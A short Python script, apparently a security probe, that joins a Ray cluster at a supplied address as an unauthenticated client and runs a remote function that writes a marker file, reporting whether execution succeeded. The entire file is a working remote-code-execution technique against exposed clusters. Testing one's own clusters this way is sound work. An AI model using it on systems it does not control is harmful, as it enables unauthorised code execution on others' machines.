"""Join the Ray at an address and run a function there, as a stranger would; print what came of it.

Usage: attack.py ADDRESS FILE; the function makes FILE.
"""

import logging
import sys
from pathlib import Path

import ray

target = sys.argv[2]
try:
    ray.init(address=sys.argv[1], log_to_driver=False, logging_level=logging.CRITICAL)
    made = ray.remote(lambda: Path(target).write_text("was here", encoding="utf-8"))
    ray.get(made.options(num_cpus=0).remote(), timeout=30)
    print("ran")
except Exception as error:
    print(type(error).__name__)
